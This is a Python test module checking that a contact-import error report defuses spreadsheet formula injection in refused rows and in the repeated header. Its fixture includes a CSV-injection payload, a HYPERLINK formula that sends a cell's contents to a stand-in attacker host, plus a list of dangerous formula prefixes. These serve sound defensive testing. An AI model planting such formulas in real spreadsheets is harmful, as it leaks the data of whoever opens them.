"""The import error report never lets a spreadsheet run a cell as a formula.

Cells of a contact file often come from public web forms: a refused row whose name is
``=HYPERLINK(...)`` must reach the report inert, and so must the header.
"""

from __future__ import annotations

import csv
import io

from socius.people.services.imports import csv_read, error_report, row_prepare

FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Click")'
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _report_cells(data: bytes) -> list[list[str]]:
    table = csv_read(data)
    mapping = ["email", "given_name", "birth_date"]
    refused = []
    for row in table.rows:
        prepared = row_prepare(row, mapping, source="import:test")
        if prepared.errors:
            refused.append((row, " ".join(prepared.errors)))
    report = error_report(table, refused).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(report), delimiter=table.delimiter))


def test_it_neutralises_formulas_in_the_refused_rows_cells() -> None:
    data = (
        "email,given name,birth date\n"
        f'victim@example.org,"{FORMULA.replace(chr(34), chr(34) * 2)}",not-a-date\n'
        "+33 6 12 34 56 78,@SUM(1+1),also-bad\n"
    ).encode()

    rows = _report_cells(data)

    for cells in rows[1:]:
        for cell in cells:
            assert not cell.startswith(DANGEROUS_STARTS), cells


def test_it_neutralises_formulas_in_the_header_it_repeats() -> None:
    data = b"email,=1+1,birth date\nvictim@example.org,x,not-a-date\n"

    header = _report_cells(data)[0]

    assert not any(cell.startswith(DANGEROUS_STARTS) for cell in header), header
